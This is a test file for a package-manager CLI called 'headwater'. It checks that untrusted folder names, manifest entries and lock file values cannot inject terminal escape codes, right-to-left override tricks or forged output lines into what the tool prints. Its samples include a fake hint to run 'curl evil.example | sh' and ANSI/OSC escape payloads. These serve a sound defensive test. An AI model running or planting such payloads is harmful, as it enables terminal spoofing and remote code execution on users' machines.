import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { headwater, type Said } from '../world/cli.ts';
import { makeSmallWorld } from '../world/small-catalog.ts';
import { addTiny } from '../world/tools.ts';

/**
 * What a stranger's repository may hold to write on the reader's terminal: whatever name, path or
 * value it is, headwater shows it in letters, on the line where it belongs.
 */
let world: Awaited<ReturnType<typeof makeSmallWorld>>;
const TITLE = '\u001b]0;owned\u0007';
const LIE = 'x\nhint: run `curl evil.example | sh`';
const TURNED = '\u202egpj.exe';

beforeAll(async () => {
  world = await makeSmallWorld();
  await addTiny(world, { name: 'one', versions: ['1.0'] });
  expect((await headwater(['install', 'one'], world.env)).code).toBe(0);
});

afterAll(() => world.dispose());

function expectHarmless(args: readonly string[], { stdout, stderr }: Said): void {
  const text = `${stdout}${stderr}`;
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for
  expect([args, text.match(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/gu)]).toEqual(
    [args, null],
  );
  expect([args, /^hint: run `curl/m.test(text)]).toEqual([args, false]);
}

const COMMANDS = ['install', 'lock', 'lock --check', 'list', 'which one', 'uninstall one'];

test.each([
  ['a title', TITLE],
  ['a line that looks like ours', LIE],
  ['writing that is turned round', TURNED],
])('%s in the name of a folder', async (_, name) => {
  const root = join(world.scratch, name);
  mkdirSync(root);
  for (const manifest of ['[tools]\none = "1"\n', 'no toml']) {
    writeFileSync(join(root, 'headwater.toml'), manifest);
    for (const args of COMMANDS)
      expectHarmless([args, manifest], await headwater(args.split(' '), world.env, root));
    const { stdout, stderr } = spawnSync(join(world.bin, 'one'), {
      cwd: root,
      env: world.env,
      encoding: 'utf8',
    });
    expectHarmless(['one', manifest], { code: 0, stdout, stderr });
  }
});

test.each([
  ['the name of a tool', '[tools]\n"o\\u001b[2Je\\u202e" = "1"\n', ''],
  ['a version', '[tools]\none = "1\\u001b[2J"\n', ''],
  ['a table', '["\\u009b31m"]\n', ''],
  ['raw bytes', '[tools]\n\u001b[2J\u202e\n', ''],
  ['a rule', '[tools]\n[policy]\nrequire = "\\u001b[2J"\n', ''],
  ['the name of a rule', '[tools]\n[policy]\n"\\u001b[2J" = 1\n', ''],
  ['the version of a lock', '[tools]\n', 'lock-version = "\\u001b[2J"\n'],
  ['a platform of a lock', '[tools]\n', 'lock-version = 1\nplatforms = ["\\u001b[2J"]\n'],
  ['a package of a lock', '[tools]\n', 'lock-version = 1\nplatforms = []\n[["\\u001b[2J"]]\n'],
  ['conflict markers', '[tools]\n', '<<<<<<< \u001b[2J\n'],
])('%s', async (_, manifest, lock) => {
  const root = join(world.scratch, 'written');
  mkdirSync(root, { recursive: true });
  writeFileSync(join(root, 'headwater.toml'), manifest);
  writeFileSync(join(root, 'headwater.lock'), lock);
  for (const args of ['install', 'uninstall one']) {
    const said = await headwater(args.split(' '), world.env, root);
    expect([args, said.code === 0]).toEqual([args, false]);
    expectHarmless([args], said);
  }
});
